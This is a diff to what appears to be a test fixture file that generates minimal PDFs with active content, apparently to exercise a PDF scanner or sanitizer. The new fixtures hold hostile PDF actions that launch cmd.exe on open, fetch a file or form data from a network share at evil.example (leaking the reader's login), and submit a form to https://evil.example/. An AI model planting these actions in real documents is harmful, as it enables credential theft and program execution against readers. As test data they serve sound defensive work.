@@ -122,8 +122,29 @@ export const activePdfs = {
       objectStream,
     }),
   /** Starts a program when the document is opened. */
-  openActionLaunch: () =>
-    minimalPdf({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) /NewWindow true >>' }),
+  openActionLaunch: (objectStream = false) =>
+    minimalPdf({
+      catalog: '/OpenAction << /S /Launch /F (cmd.exe) /NewWindow true >>',
+      objectStream,
+    }),
+  /** Opens a file on a network share when the document is opened (the reader's login goes along). */
+  openActionRemoteFile: (objectStream = false) =>
+    minimalPdf({
+      catalog:
+        '/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>',
+      objectStream,
+    }),
+  /** Reads form data in from a file on a network share when the document is opened. */
+  openActionImportData: () =>
+    minimalPdf({ catalog: '/OpenAction << /S /ImportData /F (\\\\\\\\evil.example\\\\d.fdf) >> ' }),
+  /** Sends the (empty) form to an address when the document is opened. */
+  openActionSubmitForm: () =>
+    minimalPdf({
+      catalog: '/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>',
+    }),
+  /** Starts a program when the page is opened, packed in an object stream. */
+  pageOpenLaunch: (objectStream = false) =>
+    minimalPdf({ page: '/AA << /O << /S /Launch /F (cmd.exe) >> >>', objectStream }),
   /** Starts a program when a link is clicked. */
   linkLaunch: (objectStream = false) =>
     minimalPdf({
